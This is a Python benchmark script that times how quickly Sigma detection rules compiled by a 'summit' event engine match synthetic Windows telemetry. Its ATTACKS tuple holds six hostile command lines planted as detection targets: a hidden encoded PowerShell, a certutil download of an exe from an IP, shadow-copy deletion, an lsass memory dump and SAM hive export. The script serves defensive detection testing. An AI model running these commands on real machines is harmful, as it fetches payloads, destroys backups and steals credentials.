"""What many security rules cost: Sigma's, on events as a Windows machine sends them.

    python -m bench.cep.sigma_rules DIR [--events N]

DIR holds documents that `summit rules import-sigma` made. The same events go to 10 of them, to
1,000, to all, and to 10,000: all of them and copies in which two letters of every text are others,
so that the copies look for as much and find less. The first ten are the same in all, and so must be
what they find. The first four batches meet the types, the usual values and the functions that rules
compile to as they are first needed: what that costs is in `compile`. Beside it, in the same
process: a bare decode of the type and six fields with msgspec. Events: processes, network
connections, DNS queries, files, image loads, registry values, logons; a few thousand programs and
command lines of which most come again, one in five command lines never; in every thousand about two
that a rule is meant for.
"""

from __future__ import annotations

import argparse
import gc
import json
import random
import time
from dataclasses import fields, replace
from pathlib import Path
from typing import Any

import msgspec

from summit.cep.rules import compile_rules
from summit.documents import parse_documents, validate_pattern
from summit.documents.plan import PatternPlan
from summit.events.expressions.analysis import required_fields
from summit.events.expressions.ir import And, Literal, Node, Or
from summit.keyed.chunks import Chunk
from summit.keyed.processor import Processor
from summit.keyed.rule import EVENT_TYPE

BATCH = 8_192
WARM = 4
MANY = 10_000
TYPES = (
    ("windows.process_creation", 18), ("windows.network_connection", 22), ("windows.dns_query", 15),
    ("windows.file_event", 14), ("windows.image_load", 12), ("windows.registry_set", 10),
    ("windows.security", 9),
)  # fmt: skip
FOLDERS = (
    "C:\\Windows\\System32", "C:\\Windows\\SysWOW64", "C:\\Program Files\\Vendor{0}\\App",
    "C:\\Program Files (x86)\\Tool{0}", "C:\\Users\\user{0}\\AppData\\Local\\Programs\\p{0}",
)  # fmt: skip
PROGRAMS = (
    "svchost", "explorer", "chrome", "msedge", "teams", "outlook", "searchindexer", "dllhost",
    "taskhostw", "conhost", "runtimebroker", "backgroundtask", "updater", "agent", "service",
    "helper", "worker", "installer", "java", "node", "python", "git", "code", "onedrive",
)  # fmt: skip
ATTACKS = (
    "powershell.exe -nop -w hidden -enc SQBFAFgA", "cmd.exe /c whoami /all & net group",
    "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe", "vssadmin.exe delete shadows /all",
    "rundll32.exe comsvcs.dll, MiniDump 640 C:\\lsass.dmp full", "reg.exe save hklm\\sam C:\\sam",
)  # fmt: skip


def events(count: int, seed: int = 7) -> list[bytes]:
    """JSON events; the same for the same numbers."""
    rand = random.Random(seed)
    images = [
        f"{rand.choice(FOLDERS).format(rand.randrange(40))}\\{rand.choice(PROGRAMS)}{n % 60}.exe"
        for n in range(1_500)
    ]
    lines = [f'"{rand.choice(images)}" {_arguments(rand)}' for _ in range(4_000)]
    names = [f"host{n}.{rand.choice(('example', 'cdn', 'corp'))}{n % 90}.net" for n in range(3_000)]
    kinds = [name for name, weight in TYPES for _ in range(weight)]
    found = []
    for number in range(count):
        kind = rand.choice(kinds)
        event: dict[str, Any] = {
            "eventType": kind, "timestamp": 1_700_000_000_000 + number,
            "Computer": f"pc{rand.randrange(500):03}.corp.example", "Image": rand.choice(images),
            "ProcessId": rand.randrange(100_000), "User": f"CORP\\user{rand.randrange(900)}",
        }  # fmt: skip
        event |= _members(rand, kind, images, lines, names)
        found.append(json.dumps(event).encode())
    return found


def _arguments(rand: random.Random) -> str:
    words = ("--type=renderer", "--profile", "/silent", "-Embedding", "--port", "/update", "-k")
    return " ".join(
        f"{rand.choice(words)} {rand.randrange(10_000)}" for _ in range(rand.randrange(6))
    )


def _members(
    rand: random.Random, kind: str, images: list[str], lines: list[str], names: list[str]
) -> dict[str, Any]:
    match kind:
        case "windows.process_creation":
            line = (
                rand.choice(lines)
                if rand.random() < 0.8
                else f"{rand.choice(lines)} {rand.random()}"
            )
            if rand.random() < 0.01:
                line = rand.choice(ATTACKS)
            image = f"C:\\Windows\\System32\\{line.split()[0]}" if line in ATTACKS else None
            return {
                "CommandLine": line, "ParentImage": rand.choice(images),
                "ParentCommandLine": rand.choice(lines), "IntegrityLevel": "Medium",
                "OriginalFileName": "APP.EXE", "Hashes": f"SHA256={rand.getrandbits(256):064X}",
                "CurrentDirectory": "C:\\Windows\\", **({"Image": image} if image else {}),
            }  # fmt: skip
        case "windows.network_connection":
            return {
                "DestinationIp": f"10.{rand.randrange(256)}.{rand.randrange(256)}.9",
                "DestinationPort": rand.choice((80, 443, 53, 8080, 389)), "Initiated": "true",
                "DestinationHostname": rand.choice(names),
            }  # fmt: skip
        case "windows.dns_query":
            return {
                "QueryName": rand.choice(names),
                "QueryResults": "10.0.0.1;",
                "QueryStatus": "0",
            }
        case "windows.file_event":
            return {"TargetFilename": f"C:\\Users\\u\\AppData\\Temp\\{rand.getrandbits(40):x}.tmp"}
        case "windows.image_load":
            return {
                "ImageLoaded": f"C:\\Windows\\System32\\lib{rand.randrange(900)}.dll",
                "Signed": "true", "SignatureStatus": "Valid",
            }  # fmt: skip
        case "windows.registry_set":
            return {
                "TargetObject": f"HKLM\\SOFTWARE\\Vendor{rand.randrange(400)}\\Value",
                "Details": "DWORD (0x00000001)", "EventType": "SetValue",
            }  # fmt: skip
        case _:
            return {"EventID": rand.choice((4624, 4634, 4672, 4688)), "LogonType": 3,
                    "TargetUserName": f"user{rand.randrange(900)}"}  # fmt: skip


def plans(folder: Path) -> list[PatternPlan]:
    """The rules of the folder, in a fixed order that mixes their kinds."""
    found = []
    for path in sorted(folder.rglob("*.json")):
        for parsed in parse_documents(path.read_bytes(), str(path)):
            plan = validate_pattern({"kind": parsed.kind, "id": parsed.id, **parsed.values}).plan
            if plan.enabled:
                found.append(plan)
    random.Random(1).shuffle(found)
    return found


def varied(some: list[PatternPlan], count: int) -> list[PatternPlan]:
    """So many rules: these, and copies of them with other texts."""
    found = list(some)
    simple = [plan for plan in some if plan.window is None and not any(s.group for s in plan.steps)]
    for number in range(count - len(found)):
        plan, turn = simple[number % len(simple)], 1 + number // len(simple)
        steps = tuple(
            replace(step, predicate=_other_texts(step.predicate, turn)) for step in plan.steps
        )
        found.append(replace(
            plan, id=f"{plan.id}--{turn}", semantic_hash=f"{plan.semantic_hash}-{turn}", steps=steps
        ))  # fmt: skip
    return found


def _other_texts(node: Any, turn: int) -> Any:
    """The tree with two letters of each text moved on in the alphabet; types of events stay."""
    if isinstance(node, tuple):
        return tuple(_other_texts(each, turn) for each in node)
    if isinstance(node, Literal) and isinstance(node.value, str):
        return Literal(_other_text(node.value, turn))
    if not isinstance(node, Node) or EVENT_TYPE in required_fields(node):
        if isinstance(node, (And, Or)):  # the type stands beside what is to change
            return type(node)(_other_texts(node.items, turn))
        return node
    parts = {each.name: getattr(node, each.name) for each in fields(node)}
    return type(node)(**{
        name: part if isinstance(part, str) else _other_texts(part, turn)
        for name, part in parts.items()
    })  # fmt: skip


def _other_text(text: str, turn: int) -> str:
    letters = [n for n, sign in enumerate(text) if sign.isascii() and sign.isalpha()]
    changed = list(text)
    for n in letters[len(letters) // 2 : len(letters) // 2 + 2]:
        first = ord("a") if text[n].islower() else ord("A")
        changed[n] = chr((ord(text[n]) - first + turn) % 26 + first)
    return "".join(changed)


def run(chunks: list[Chunk], some: list[PatternPlan], warm: int) -> tuple[float, float, list[Any]]:
    """CPU-seconds to compile (with the first batches), to match; and what was found."""
    begin = time.process_time()
    processor = Processor(compile_rules(some))
    for chunk in chunks[:warm]:
        processor.apply((chunk,))
    compiled = time.process_time()
    found = [m for chunk in chunks[warm:] for m in processor.apply((chunk,)).outputs.found]
    return compiled - begin, time.process_time() - compiled, found


class _Bare(msgspec.Struct, gc=False):
    eventType: str | None = None
    timestamp: int | None = None
    Image: str | None = None
    CommandLine: str | None = None
    ParentImage: str | None = None
    User: str | None = None


def bare(chunks: list[Chunk]) -> float:
    """CPU-seconds to decode six fields and do nothing."""
    decode = msgspec.json.Decoder(_Bare).decode
    begin = time.process_time()
    for chunk in chunks:
        for value in chunk.values:
            assert value is not None
            decode(value)
    return time.process_time() - begin


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("rules", type=Path)
    parser.add_argument("--events", type=int, default=60_000)
    given = parser.parse_args()
    values = events(given.events + WARM * BATCH)
    chunks = [
        Chunk("events", 0, range(n, n + len(part)), [1_700_000_000_000] * len(part), part)
        for n in range(0, len(values), BATCH)
        for part in [values[n : n + BATCH]]
    ]
    every = plans(given.rules)
    gc.collect()
    gc.freeze()
    count = sum(len(chunk.values) for chunk in chunks[WARM:])
    known = {plan.id for plan in every[:10]}
    many = varied(every, MANY)
    result: dict[str, Any] = {"bench": "cep.sigma_rules", "events": count, "rules": len(every)}
    result["events_per_cpu_s_bare_decode"] = round(count / bare(chunks[WARM:]))
    few = 0.0
    expected: list[Any] = []
    for number in (10, 1_000, len(every), MANY):
        compiled, spent, found = run(chunks, many[:number], WARM)
        of_known = [(m.pattern_id, m.captures[0][1].offset) for m in found if m.pattern_id in known]
        few, expected = (few or spent), (expected or of_known)
        assert of_known == expected, "the first ten must find the same"
        name = "all" if number == len(every) else str(number)
        result[f"compile_{name}_cpu_s"] = round(compiled, 2)
        result[f"events_per_cpu_s_{name}"] = round(count / spent)
        result[f"ratio_{name}_to_10"] = round(spent / few, 2)
        result[f"matches_{name}"] = len(found)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
